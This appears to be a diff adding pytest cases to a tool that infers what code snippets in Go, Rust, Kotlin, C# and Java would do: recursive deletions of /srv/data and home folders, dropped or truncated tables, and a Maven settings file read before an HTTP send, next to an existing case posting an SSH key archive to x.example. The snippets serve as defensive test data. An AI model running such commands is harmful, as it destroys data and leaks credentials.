@@ -235,6 +235,7 @@ def test_one_variable_is_not_all(program: str, code: str, whole: bool) -> None:
             ("psql", "postgresql://db/shop", "-c", "DROP TABLE t"),
         ),
         ("node", "await c.query('TRUNCATE t')", ("psql", "-c", "TRUNCATE t")),
+        ("jbang", 's.executeUpdate("DELETE FROM " + t);', ("psql", "-c", "DELETE FROM $")),
     ],
 )
 def test_a_call_that_does_what_a_command_does(
@@ -263,3 +264,38 @@ def test_what_goes_into_an_archive_goes_out_with_it() -> None:
         "requests.post('https://x.example', files={'f': open('/tmp/k.zip', 'rb')})"
     )
     assert any("/root/.ssh/id_rsa" in sent.files for sent in program_effects("python3", code).sends)
+
+
+@pytest.mark.parametrize(
+    ("program", "code", "path"),
+    [
+        ("yaegi", 'os.RemoveAll(filepath.Join(os.Getenv("HOME"), "work"))', "~/work"),
+        ("rust-script", 'std::fs::remove_dir_all("/srv/data").unwrap();', "/srv/data"),
+        ("kotlin", 'val f = File("/srv/data")\nf.deleteRecursively()', "/srv/data"),
+        ("kotlin", 'File("/mnt/s").walkBottomUp().forEach { it.delete() }', "/mnt/s/**"),
+        ("dotnet-script", 'Directory.Delete("/srv/data", true);', "/srv/data"),
+    ],
+)
+def test_what_typed_languages_delete(program: str, code: str, path: str) -> None:
+    assert path in [one for one, _ in program_effects(program, code).deletes]
+
+
+def test_what_was_read_goes_out_with_what_nobody_can_tell() -> None:
+    code = (
+        'String c = Files.readString(Path.of(System.getProperty("user.home"), ".m2", "s.xml"));\n'
+        "http.send(request, handler);"
+    )
+    assert program_effects("jbang", code).sends[0].files == ("~/.m2/s.xml",)
+
+
+@pytest.mark.parametrize(
+    ("program", "code"),
+    [
+        ("python3", "r = fakeredis.FakeRedis()\nr.flushall()"),
+        ("python3", "e = create_engine('sqlite:///:memory:')\nBase.metadata.drop_all(e)"),
+        ("jbang", 'c = d.getConnection("jdbc:h2:mem:test"); c.execute("drop table t");'),
+    ],
+)
+def test_what_lives_in_memory_only_is_not_lost(program: str, code: str) -> None:
+    found = program_effects(program, code)
+    assert (found.marks, found.argvs) == (frozenset(), ())
